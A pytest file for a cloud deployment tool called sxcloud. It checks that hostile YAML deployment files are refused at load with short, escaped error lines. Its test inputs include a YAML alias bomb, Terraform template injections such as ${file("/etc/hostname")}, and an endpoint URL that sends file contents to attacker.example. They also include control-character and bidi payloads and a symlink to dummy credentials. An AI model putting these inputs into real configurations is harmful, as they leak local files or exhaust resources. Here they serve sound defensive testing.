"""Issue 9, loading side: a deployment file written by an attacker is refused at load, with
one short line per problem naming the file and the key (or line and column), and nothing
of it reaches a later stage. One test per class of attack, each as the issue describes it."""

from __future__ import annotations

import os
import subprocess
import sys
import time
from pathlib import Path

import pytest
import yaml

from sxcloud import config, yamlfile
from sxcloud.errors import InputError

import conftest
from test_config import GOOD

SUB = "/subscriptions/6f0c1d2e-3a4b-4c5d-8e9f-0a1b2c3d4e5f/resourceGroups/rg-mail/providers/Microsoft.Network"
ASG = f"{SUB}/applicationSecurityGroups/asg-exchange"
NIC = f"{SUB}/networkInterfaces/nic-mail-1"
SUBNET = f"{SUB}/virtualNetworks/vnet-mail/subnets/snet-dmz"
INJECTION = '${file("/etc/hostname")}'


def refused(tmp_path: Path, content, name: str = "sxcloud.yaml") -> list[tuple[str, str]]:
    """Load `content` (YAML text, or data to dump) and return the (key, message) problems;
    every problem must name the file and print as one short, terminal-safe line."""
    path = tmp_path / name
    path.write_text(content if isinstance(content, str) else yaml.safe_dump(content))
    with pytest.raises(InputError) as caught:
        config.load(path)
    for line in caught.value.lines():
        assert line.startswith(f"{path}: "), line
        assert "\n" not in line and "\x1b" not in line and len(line) < 600, line
    return [(key, message) for _, key, message in caught.value.problems]


def one(found: list[tuple[str, str]]) -> tuple[str, str]:
    assert len(found) == 1, found
    return found[0]


def edited(**edits) -> dict:
    """GOOD with edits, keys written as aws__endpoints (None removes a key)."""
    return conftest.edited(GOOD, **edits)


def good_yaml(**edits) -> str:
    return yaml.safe_dump(edited(**edits), sort_keys=False)


def test_yaml_anchors_and_aliases_are_refused(tmp_path):
    """Items 3 and 9: a few hundred bytes of aliases expanded to 10^8 leaves (a hang, 615 MB,
    a 34.6 MB cdk.tf.json, a 10 MB error line). Refused at the first anchor, in no time."""
    bomb = "".join(f"    l{i}: &l{i} [" + ", ".join([f"*l{i - 1}"] * 9) + "]\n" for i in range(1, 9))
    under_backend = good_yaml().replace(
        "aws:\n", "aws:\n  backend:\n    local:\n      path: &l0 x\n" + bomb.replace("    ", "      "), 1)
    at_version = good_yaml().replace("version: 1\n", "x0: &l0 [lol]\n" + bomb.replace("    ", "") +
                                     "version: *l8\n", 1)
    for text in (under_backend, at_version, "name: &n hostile\nversion: 1\nalias: *n\n"):
        started = time.perf_counter()
        key, message = one(refused(tmp_path, text))
        assert time.perf_counter() - started < 5  # a bound on the work, not a benchmark
        assert "line" in key and "anchors and aliases" in message


def test_file_size_is_bounded(tmp_path):
    """A deployment file is read only up to 1 MiB; a larger one is refused unparsed."""
    text = good_yaml() + ("# padding\n" * (yamlfile.MAX_BYTES // 10 + 1))
    key, message = one(refused(tmp_path, text))
    assert key == "" and "larger than 1 MiB" in message


def test_deep_nesting_is_refused_without_recursion_error(tmp_path):
    """Item 8: 1,000 nested brackets raised RecursionError (a traceback, exit 1)."""
    for text in (good_yaml() + "deep: " + "[" * 1000 + "]" * 1000 + "\n",
                 good_yaml(aws__backend={"local": {"path": "x"}}).replace(
                     "path: x", "path: " + "[" * 200 + "]" * 200),
                 "[" * 100_000 + "]" * 100_000):
        key, message = one(refused(tmp_path, text))
        # libyaml, when PyYAML has it, stops at its own limit (1,000) before sxcloud's (20)
        assert "column" in key and ("deeper than 20 levels" in message
                                    or "maximum nesting depth" in message), message
    nested: list = []
    for _ in range(1000):  # the same through parse(), for data that is not from YAML
        nested = [nested]
    with pytest.raises(InputError, match="deeper than"):
        config.parse({**GOOD, "deep": nested}, Path("data.yaml"))


def test_keys_that_are_not_text_are_refused(tmp_path):
    """Item 8: `1: a` beside `b: c` crashed _explain (it sorts the unknown keys), and so did
    a list as a key."""
    key, message = one(refused(tmp_path, good_yaml() + "1: a\nb: c\n"))
    assert "line" in key and "key 1 is not text" in message
    key, message = one(refused(tmp_path, good_yaml() + "? [a, b]\n: c\n"))
    assert "list or mapping cannot be a key" in message
    with pytest.raises(InputError, match="key 1 is not text"):  # the same data through parse()
        config.parse({**GOOD, 1: "a", "b": "c"}, Path("data.yaml"))


def test_yaml_types_that_json_has_not_are_refused(tmp_path):
    """Item 8: dates, !!binary, !!set, !!int abc, .nan and .inf crashed the loader, the schema
    messages or jsii in synth. Only text, whole numbers, booleans and null are built."""
    cases = {
        "name: 2024-13-01": ("name", "read as a date"),
        "name: 2024-01-01": ("name", "read as a date"),
        "version: !!int abc": ("version", "explicit YAML tags (!!int)"),
        "version: 1.0": ("version", "floating-point"),
        "name: !!binary aGVsbG8=": ("name", "explicit YAML tags (!!binary)"),
        "name: !custom x": ("name", "explicit YAML tags (!custom)"),
        "version: 0x1": ("version", "not a whole number in decimal"),
        "version: " + "1" * 5000: ("version", "not a whole number in decimal"),
    }
    for line, (want_key, want) in cases.items():
        key, message = one(refused(tmp_path, good_yaml(**{want_key: None}) + line + "\n"))
        assert key.startswith(f"{want_key} (line") and want in message, (line, key, message)
    for value in ("!!set {a, b}", ".nan", "-.inf", "2024-01-01 10:00:00", "!!binary aGVsbG8="):
        # these reached jsii in synth and crashed it there; good_yaml() ends in the azure section
        text = good_yaml() + f"  backend:\n    local:\n      path: {value}\n"
        key, message = one(refused(tmp_path, text))
        assert key.startswith("azure.backend.local.path (line"), (value, key)


def test_yaml_errors_are_one_line_without_the_files_content(tmp_path):
    """Items 6 and 10: a deployment file that is a symlink to a credentials file got a YAML
    error quoting the line that held the key; PyYAML's messages span three lines."""
    secret = "wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY"
    credentials = tmp_path / "credentials"
    credentials.write_text(f"[default]\naws_access_key_id = AKIAIOSFODNN7EXAMPLE\n"
                           f"aws_secret_access_key = {secret}\n")
    (tmp_path / "sxcloud.yaml").symlink_to(credentials)
    with pytest.raises(InputError) as caught:
        config.load(tmp_path / "sxcloud.yaml")
    (line,) = caught.value.lines()
    assert "line 2, column 1" in line and "not valid YAML" in line
    assert "AKIA" not in line and secret not in line and "aws_" not in line
    key, message = one(refused(tmp_path, "version: 1\nroles: [unclosed\n", "broken.yaml"))
    assert key == "line 3, column 1" and message.startswith("is not valid YAML: ")


def test_values_in_messages_are_short_escaped_excerpts(tmp_path):
    """Item 9: a 10^6-leaf value at `version` gave a 10 MB error line that echoed it; item
    10: values with line breaks were echoed raw."""
    for data in (edited(version="A" * 100_000), edited(name="x" * 100_000),
                 edited(appliance={"dns": "y" * 100_000}), edited(**{"k" * 100_000: 1})):
        for key, message in refused(tmp_path, data):
            assert len(key) + len(message) < 400, (len(key), len(message))


def test_control_characters_are_refused_in_any_key_or_value(tmp_path):
    """Items 7 and 11: a terminal escape erased lines of `sxcloud plan`; a trailing line break
    passed every ^...$ pattern of the schema and was written out."""
    cases = [
        (edited(aws__region="eu-central-1\n"), "aws.region", "\\n"),
        (edited(name="mail\x1b[2Jx"), "name", "\\x1b"),
        (edited(azure__resource_group="rg-\u202email"), "azure.resource_group", "\\u202e"),
        (edited(aws__backend={"s3": {"bucket": "b\tc", "key": "k", "region": "eu-central-1"}}),
         "aws.backend.s3.bucket", "\\t"),
        (edited(roles__admin_pc=["10.0.99.0/24\r"]), "roles.admin_pc[0]", "\\r"),
        (edited(aws__endpoints={"ec2": "http://127.0.0.1:5000/\n"}), "aws.endpoints.ec2", "\\n"),
    ]
    for data, want_key, shown in cases:
        key, message = one(refused(tmp_path, data))
        assert key == want_key and "control or format characters" in message and shown in message
    key, message = one(refused(tmp_path, good_yaml() + '"odd\\u200bkey": 1\n'))  # zero width
    assert key == "" and "a key holds control or format characters (\\u200b)" in message


def test_schema_patterns_are_full_matches():
    """Item 11: jsonschema applies `pattern` with re.search, where `$` matches before a
    trailing line break. Every pattern is anchored and applied as a full match."""
    patterns = []

    def walk(node):
        if isinstance(node, dict):
            if isinstance(node.get("pattern"), str):
                patterns.append(node["pattern"])
            for value in node.values():
                walk(value)
        elif isinstance(node, list):
            for value in node:
                walk(value)
    walk(config.schema())
    assert patterns and all(p.startswith("^") and p.endswith("$") for p in patterns), patterns
    # Straight to the schema check: the control-character check would catch these first.
    for key, value in (("name", "hostile\n"), ("aws", {**GOOD["aws"], "region": "eu-central-1\n"})):
        found = config._schema_problems({**GOOD, key: value}, Path("data.yaml"))
        assert [k for _, k, _ in found] == [key if key == "name" else "aws.region"], found


def test_cidrs_with_ipv6_scope_ids_are_refused(tmp_path):
    """Item 1: ipaddress accepts `fe80::%${file(...)}/64` and keeps the scope id in str()."""
    for entry in ('fe80::%${file("hostname")}/64', "fe80::%eth0/64", "fe80::1%1/128"):
        key, message = one(refused(tmp_path, edited(roles__admin_pc=[entry])))
        assert key == "roles.admin_pc[0]" and "scope id" in message


def test_endpoints_are_known_services_with_parsed_urls(tmp_path):
    """Items 1 and 11: `sts: 'http://HOST/${filebase64(...)}'` sent a file to HOST on
    `terraform plan`; endpoint keys the provider does not know were accepted."""
    bad_urls = {
        f"http://attacker.example/{INJECTION}": "path",
        "http://attacker.example/%{if}x%{endif}": "path",
        "http://user:pass@127.0.0.1:5000": "user name or password",
        "http://127.0.0.1:5000/?a=b": "query",
        "http://127.0.0.1:5000/#top": "fragment",
        "http://127.0.0.1:99999": "port",
        "http://127.0.0.1:0": "port",
        "https://[::1": "not a URL",
        "http://[fe80::1%25eth0]:5000": "host",
        "http://300.1.1.1": "host",
        "http://-bad-.example": "host",
        "ftp://127.0.0.1": "not an http:// or https:// URL",
        "HTTP://127.0.0.1": "not an http:// or https:// URL",
        "http://exa mple.com": "spaces",
    }
    for url, want in bad_urls.items():
        key, message = one(refused(tmp_path, edited(aws__endpoints={"sts": url})))
        assert key == "aws.endpoints.sts" and want in message, (url, message)
        assert ":pass@" not in message  # a password is never echoed
    key, message = one(refused(tmp_path, edited(aws__endpoints={"ec22": "http://127.0.0.1:5000"})))
    assert key == "aws.endpoints.ec22" and "did you mean 'ec2'" in message
    key, message = one(refused(tmp_path, edited(aws__endpoints={"s3": "http://127.0.0.1:5000"})))
    assert key == "aws.endpoints.s3" and "unknown key" in message
    good = {"ec2": "http://127.0.0.1:5000", "sts": "https://sts.eu-central-1.amazonaws.com/",
            "iam": "http://[::1]:4566/path_x/v1"}
    assert config.load(_write(tmp_path, edited(aws__endpoints=good))).aws.endpoints == good


def test_arm_ids_name_their_resource_type_strictly(tmp_path):
    """Items 1 and 11: ASG bindings and azure.associate ids, whose segments could be any
    [^/]+, carried `${...}`; ids naming another resource type were accepted."""
    bindings = "azure__bindings"
    cases = [
        ({bindings: {"admin_pc": {"application_security_group_ids": [ASG + INJECTION]}}},
         "azure.bindings.admin_pc.application_security_group_ids[0]", "an application security group"),
        ({bindings: {"admin_pc": {"application_security_group_ids": [NIC]}}},
         "azure.bindings.admin_pc.application_security_group_ids[0]", "an application security group"),
        ({"azure__associate": {"subnet_ids": [NIC]}}, "azure.associate.subnet_ids[0]", "a subnet"),
        ({"azure__associate": {"subnet_ids": [SUBNET.replace("virtualNetworks", "x")]}},
         "azure.associate.subnet_ids[0]", "a subnet"),
        ({"azure__associate": {"network_interface_ids": [NIC.replace("6f0c1d2e", "%{if}")]}},
         "azure.associate.network_interface_ids[0]", "a network interface"),
        ({"azure__associate": {"network_interface_ids": [NIC.replace("rg-mail", "rg-mail.")]}},
         "azure.associate.network_interface_ids[0]", "a network interface"),
        ({"azure__associate": {"network_interface_ids": [NIC + "/ipConfigurations/x"]}},
         "azure.associate.network_interface_ids[0]", "a network interface"),
    ]
    for edits, want_key, noun in cases:
        key, message = one(refused(tmp_path, edited(**edits)))
        assert key == want_key and f"(the id of {noun}: " in message, message
    loaded = config.load(_write(tmp_path, edited(
        azure__bindings={"admin_pc": {"application_security_group_ids": [ASG]}},
        azure__associate={"subnet_ids": [SUBNET], "network_interface_ids": [NIC]})))
    assert loaded.azure.subnet_ids == (SUBNET,) and loaded.azure.network_interface_ids == (NIC,)


def test_backend_settings_are_the_backends_own_scalars(tmp_path):
    """Items 8 and 11: backend values that were not JSON scalars crashed jsii in synth;
    settings a backend does not take, or lacking a required one, were accepted."""
    s3 = {"bucket": "tf-state", "key": "mail/aws.tfstate", "region": "eu-central-1"}
    cases = [
        ({"s3": {**s3, "bucket": ["a", {"b": "c"}]}}, "aws.backend.s3.bucket", "must be a string"),
        ({"s3": {**s3, "__proto__": "x"}}, "aws.backend.s3.__proto__", "unknown key"),
        ({"s3": {**s3, "use_lockfil": True}}, "aws.backend.s3.use_lockfil",
         "did you mean 'use_lockfile'?"),
        ({"s3": {"key": "k", "region": "eu-central-1"}}, "aws.backend.s3.bucket", "is required"),
        ({"s3": {**s3, "secret_key": "wJalrXUtnFEMI"}}, "aws.backend.s3.secret_key", "credential"),
        ({"s3": {**s3, "max_retries": "many"}}, "aws.backend.s3.max_retries", "whole number"),
        ({"s3": {**s3, "endpoints": {"s3": f"http://h/{INJECTION}"}}},
         "aws.backend.s3.endpoints.s3", "path"),
        ({"azurerm": {"storage_account_name": "st", "container_name": "c"}},
         "aws.backend.azurerm.key", "is required"),
        ({"remote": {"organization": "o"}}, "aws.backend.remote.workspaces", "is required"),
        ({"http": {"address": "https://state.example", "password": "p"}},
         "aws.backend.http.password", "credential"),
        ({"local": {"path": "x", "bogus": 1}}, "aws.backend.local.bogus", "unknown key"),
    ]
    for backend, want_key, want in cases:
        key, message = one(refused(tmp_path, edited(aws__backend=backend)))
        assert key == want_key and want in message, (backend, key, message)
    loaded = config.load(_write(tmp_path, edited(aws__backend={"s3": {
        **s3, "use_lockfile": True, "max_retries": 3, "allowed_account_ids": ["123456789012"],
        "assume_role": {"role_arn": "arn:aws:iam::123456789012:role/tf"}}})))
    assert loaded.aws.backend.settings["assume_role"] == {"role_arn": "arn:aws:iam::123456789012:role/tf"}


def test_values_the_clouds_refuse_are_refused(tmp_path):
    """Item 11: EC2 refuses group names starting with sg- (the group is <name>-appliance);
    Azure refuses resource group names ending in '.'."""
    key, message = one(refused(tmp_path, edited(name="sg-x")))
    assert key == "name" and "not starting with 'sg-'" in message
    for group in ("rg-mail.", "rg mail", "a" * 91, ""):
        key, message = one(refused(tmp_path, edited(azure__resource_group=group)))
        assert key == "azure.resource_group" and "resource group" in message
    assert config.load(_write(tmp_path, edited(azure__resource_group="rg.(mail)_1"))).azure


def test_roles_that_are_the_internet_are_refused(tmp_path):
    """Item 4: `admin_pc: [0.0.0.0/1, 128.0.0.0/1]` passed the /0 check; synth accepted it,
    and verify and review then died with an AssertionError (exit 1, an empty report)."""
    found = dict(refused(tmp_path, edited(roles__admin_pc=["0.0.0.0/1", "128.0.0.0/1"])))
    assert "whole IPv4 Internet" in found["roles.admin_pc"]
    assert "wider than /8" in found["roles.admin_pc[0]"]
    key, message = one(refused(tmp_path, edited(roles__external_nameserver=["2000::/3"])))
    assert key == "roles.external_nameserver[0]" and "wider than /7" in message
    eights = [f"{i}.0.0.0/8" for i in range(1, 129)]  # each allowed alone; half of IPv4 together
    key, message = one(refused(tmp_path, edited(roles__internal_network=eights)))
    assert key == "roles.internal_network" and "half or more of the IPv4" in message
    key, message = one(refused(tmp_path, edited(roles__internal_network=eights[:64],
                                                roles__admin_pc=eights[64:])))
    assert key == "roles" and "the roles' ranges" in message
    assert config.load(_write(tmp_path, edited(roles__internal_network=[
        "10.0.0.0/8", "172.16.0.0/12", "192.168.0.0/16", "fc00::/7"])))


@pytest.mark.parametrize("command", ["verify", "review"])
def test_verify_and_review_refuse_an_internet_role_at_load(tmp_path, command):
    """Item 4, end to end: the file that crashed verify and review now exits 2 at load, with
    one line per problem and no traceback."""
    path = _write(tmp_path, edited(roles__admin_pc=["0.0.0.0/1", "128.0.0.0/1"]))
    result = subprocess.run([sys.executable, "-m", "sxcloud", command, str(path)],
                            capture_output=True, text=True, cwd=tmp_path, timeout=300,
                            env={**os.environ, "PYTHONPATH": str(Path(config.__file__).parents[1])})
    assert result.returncode == 2, result.stderr
    assert "Traceback" not in result.stderr and "whole IPv4 Internet" in result.stderr
    assert all(line.startswith("sxcloud: error: ") for line in result.stderr.splitlines())


def _write(tmp_path: Path, data) -> Path:
    path = tmp_path / "good.yaml"
    path.write_text(yaml.safe_dump(data))
    return path


NSG = f"{SUB}/networkSecurityGroups/nsg-mailgw"


def test_azure_adopt_is_validated_naming_each_key(tmp_path):
    """`azure.adopt` (written by `sxcloud adopt azure`, then the user's to edit): ids whose
    segments could carry a template or name another resource type, rule names outside
    Azure's characters, and objects outside the file's resource group, each refused with
    its key; the ids reach import blocks, the names Terraform addresses."""
    adopt = "azure__adopt"
    cases = [
        ({"network_security_group_id": NSG + INJECTION}, "azure.adopt.network_security_group_id",
         "the id of a network security group"),
        ({"network_security_group_id": NSG.replace("6f0c1d2e", "%{if}")},
         "azure.adopt.network_security_group_id", "the id of a network security group"),
        ({"network_security_group_id": NSG + "/securityRules/x"},
         "azure.adopt.network_security_group_id", "the id of a network security group"),
        ({"network_security_group_id": ASG}, "azure.adopt.network_security_group_id",
         "the id of a network security group"),
        ({"network_security_group_id": NSG, "application_security_group_id": NSG},
         "azure.adopt.application_security_group_id", "the id of an application security group"),
        ({"network_security_group_id": NSG, "rules": [INJECTION]}, "azure.adopt.rules[0]",
         "an NSG rule name"),
        ({"network_security_group_id": NSG, "rules": ["allow\u202ein"]}, "azure.adopt.rules[0]",
         "control or format characters"),
        ({"network_security_group_id": NSG.replace("rg-mail", "rg-other")},
         "azure.adopt.network_security_group_id", "is in resource group rg-other"),
        ({"network_security_group_id": NSG, "owner": "me"}, "azure.adopt.owner", "unknown key"),
    ]
    for given, want_key, hint in cases:
        key, message = one(refused(tmp_path, edited(**{adopt: given})))
        assert key == want_key and hint in message, (key, message)
    loaded = config.load(_write(tmp_path, edited(**{adopt: {
        "network_security_group_id": NSG, "application_security_group_id": ASG.replace(
            "asg-exchange", "asg-mailgw"), "rules": ["allow-in-internet-tcp"]}})))
    assert loaded.azure.adopt.network_security_group.name == "nsg-mailgw"
    assert loaded.azure.adopt.application_security_group.name == "asg-mailgw"


EXCEPTION = {"id": "noc-snmp", "direction": "inbound", "protocol": "udp", "ports": [161],
             "peer": {"cidrs": ["10.0.50.10/32"]}, "reason": "SNMP polling by the NOC",
             "owner": "noc-team", "ticket": "CHG-1234", "expires": "2027-06-30"}


def with_exception(**changes) -> dict:
    return edited(exceptions=[{**EXCEPTION, **changes}])


@pytest.mark.parametrize("key", ["id", "reason", "owner", "ticket", "expires"])
def test_exception_text_refuses_control_characters(tmp_path, key):
    """Site exceptions (issue 16): id, reason, owner and ticket reach rule descriptions,
    tags, reports and the terminal; a terminal escape, a bidi override or a line break in
    any of them is refused at load, shown escaped."""
    for value, shown in (("a\x1b[2Jb", "\\x1b"), ("a\u202eb", "\\u202e"), ("a\nb", "\\n")):
        found, message = one(refused(tmp_path, with_exception(**{key: value})))
        assert found == f"exceptions[0].{key}" and "control or format characters" in message
        assert shown in message


@pytest.mark.parametrize("key, value", [
    ("reason", INJECTION), ("reason", "%{ if true }x%{ endif }"), ("reason", "<script>x</script>"),
    ("reason", "a|b"), ("reason", "`code`"), ("reason", "a & b"), ("reason", "tab\there"),
    ("owner", INJECTION), ("owner", "${x}"), ("owner", "[link](http://x)"),
    ("ticket", "${x}"), ("ticket", "CHG-1 <b>"), ("id", "${x}"), ("id", "a_b"),
    ("expires", "${x}"), ("peer", {"azure": {"service_tags": ["${x}"]}}),
])
def test_exception_text_outside_the_clouds_characters_is_refused(tmp_path, key, value):
    """Templates, Markdown, Mermaid and HTML markup outside the characters an AWS rule
    description (or a tag, or an id) takes are refused, naming the key."""
    found, message = one(refused(tmp_path, with_exception(**{key: value})))
    assert found.startswith(f"exceptions[0].{key}"), found


def test_exception_reason_may_hold_template_characters_that_are_written_literally(tmp_path):
    """`${`, `{`, `}`, `$` are characters AWS takes in a description, so a reason may hold
    `${path.module}`: the loader keeps it as text, and the writers escape it
    (test_hostile_output.py)."""
    loaded = config.load(_write(tmp_path, with_exception(reason="see ${path.module} {x} $5")))
    assert loaded.exceptions[0].reason == "see ${path.module} {x} $5"


def test_exception_peer_cidrs_with_scope_ids_or_the_internet_are_refused(tmp_path):
    """Item 1 and item 4 for exception peers: a scope id would carry a template into the
    output; halves of the Internet are the Internet."""
    found, message = one(refused(tmp_path, with_exception(peer={"cidrs": ['fe80::%${file("h")}/64']})))
    assert found == "exceptions[0].peer.cidrs[0]" and "scope id" in message
    found = dict(refused(tmp_path, with_exception(peer={"cidrs": ["0.0.0.0/1", "128.0.0.0/1"]})))
    assert "whole IPv4 Internet" in found["exceptions[0].peer.cidrs"]
    assert "wider than /8" in found["exceptions[0].peer.cidrs[0]"]


def test_a_plain_date_is_read_as_text_only_at_an_exceptions_expires(tmp_path):
    """The YAML reader builds no date anywhere: at `exceptions[N].expires` a plain date is
    its text; a timestamp there is text too and refused as not a date; elsewhere a plain
    date is refused as before."""
    text = good_yaml() + ("exceptions:\n- {id: a, direction: inbound, protocol: udp, ports: [1],"
                          " peer: {internet: true}, reason: r, owner: o, expires: 2027-01-01}\n")
    path = tmp_path / "dated.yaml"
    assert yamlfile.parse(text, path)["exceptions"][0]["expires"] == "2027-01-01"
    stamp = text.replace("2027-01-01", "2027-01-01T00:00:00Z")
    assert yamlfile.parse(stamp, path)["exceptions"][0]["expires"] == "2027-01-01T00:00:00Z"
    found, message = one(refused(tmp_path, stamp))
    assert found == "exceptions[0].expires" and "YYYY-MM-DD" in message
    found, message = one(refused(tmp_path, text.replace("owner: o", "owner: 2027-01-01")))
    assert "exceptions[0].owner" in found and "is read as a date" in message


ADOPT = {"group_id": "sg-0123456789abcdef0", "name": "mailgw-sg", "description": "Mail gateway"}


def test_aws_adopt_is_validated_naming_each_key(tmp_path):
    """`aws.adopt` (written by `sxcloud adopt aws`, then the user's to edit): the group id,
    the kept name and description in the characters EC2 takes, rule keys of the plan, and
    sgr- ids, each refused with its key."""
    cases = {
        "group_id": ("sg-xyz", "sg- and 8 or 17 hex digits"),
        "name": (INJECTION, "security group name"),
        "description": ("Mail gateway \u00e4", "security group description"),
    }
    for key, (value, hint) in cases.items():
        found = one(refused(tmp_path, edited(aws__adopt={**ADOPT, key: value})))
        assert found[0] == f"aws.adopt.{key}" and hint in found[1], found
    key, message = one(refused(tmp_path, edited(aws__adopt={**ADOPT, "name": "a" * 256})))
    assert key == "aws.adopt.name"
    key, message = one(refused(tmp_path, edited(aws__adopt={**ADOPT, "owner": "me"})))
    assert key == "aws.adopt.owner" and "unknown key" in message
    key, message = one(refused(tmp_path, edited(aws__adopt={
        **ADOPT, "rules": {"R04_in_tcp25_cidr_0-0-0-0_0": "sg-0123456789abcdef0"}})))
    assert key == "aws.adopt.rules.R04_in_tcp25_cidr_0-0-0-0_0" and "sgr-" in message
    key, message = one(refused(tmp_path, edited(aws__adopt={**ADOPT, "rules": {INJECTION: "sgr-0123456789abcdef0"}})))
    assert key == "aws.adopt.rules"
    loaded = config.load(_write(tmp_path, edited(aws__adopt=ADOPT)))
    assert loaded.aws.adopt == config.AwsAdoption(ADOPT["group_id"], "mailgw-sg", "Mail gateway", {})


def test_aws_adopt_rules_name_planned_rules_once(tmp_path):
    """A rule key the plan does not hold, or one live rule taken over twice, is refused when
    the file is planned (plan, synth, adopt), naming the key."""
    from sxcloud.aws.plan import plan

    deployment = config.load(_write(tmp_path, edited(aws__adopt={**ADOPT, "rules": {
        "R99_in_tcp1_cidr_10-0-0-1_32": "sgr-0123456789abcdef0"}})))
    with pytest.raises(InputError) as caught:
        plan(deployment)
    (_, key, message), = caught.value.problems
    assert key == "aws.adopt.rules.R99_in_tcp1_cidr_10-0-0-1_32" and "no rule" in message
    keys = [r.key for r in plan(config.load(_write(tmp_path, GOOD))).rules][:2]
    deployment = config.load(_write(tmp_path, edited(aws__adopt={**ADOPT, "rules": {
        k: "sgr-0123456789abcdef0" for k in keys}})))
    with pytest.raises(InputError) as caught:
        plan(deployment)
    (_, key, message), = caught.value.problems
    assert key == f"aws.adopt.rules.{keys[1]}" and f"also mapped to {keys[0]}" in message
